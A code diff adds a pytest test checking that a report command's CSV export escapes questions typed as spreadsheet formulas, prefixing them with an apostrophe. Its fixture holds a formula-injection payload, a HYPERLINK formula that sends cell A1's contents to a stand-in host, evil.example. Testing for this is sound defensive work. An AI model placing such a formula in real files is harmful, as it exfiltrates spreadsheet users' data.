@@ -128,3 +128,38 @@ def test_a_day_at_the_ends_of_the_calendar_is_refused(
     assert status == 1
     assert f"Дата {day} вне допустимого диапазона" in capsys.readouterr().err
     assert not out.exists()
+
+
+FORMULA_QUESTIONS = ('=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "@SUM(1,1) ошибка")
+
+
+def test_report_csv_files_keep_questions_typed_as_formulas_as_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    address = f"sqlite+aiosqlite:///{tmp_path / 'formulas.sqlite3'}"
+
+    async def fill() -> None:
+        db = await open_database(address)
+        try:
+            async with db.transaction() as uow:
+                await uow.questions.add_many(
+                    [
+                        NewQuestion(
+                            channel="web", asked_at=OLD, text=text, decision=Decision.HANDOFF
+                        )
+                        for text in FORMULA_QUESTIONS
+                    ]
+                )
+        finally:
+            await db.close()
+
+    asyncio.run(fill())
+    folder = tmp_path / "csv"
+    out = str(tmp_path / "report.html")
+    assert main(["report", "--database", address, "--out", out, "--csv-dir", str(folder)]) == 0
+    with (folder / "unanswered.csv").open(encoding="utf-8-sig") as file:
+        header, *groups = list(csv.reader(file))
+    examples = {row[header.index("примеры")] for row in groups}
+    assert examples == {"'" + question for question in FORMULA_QUESTIONS}
+    with (folder / "days.csv").open(encoding="utf-8-sig") as file:
+        assert list(csv.reader(file))[1] == ["2025-01-10", "0", "0", "0", "2", "2"]
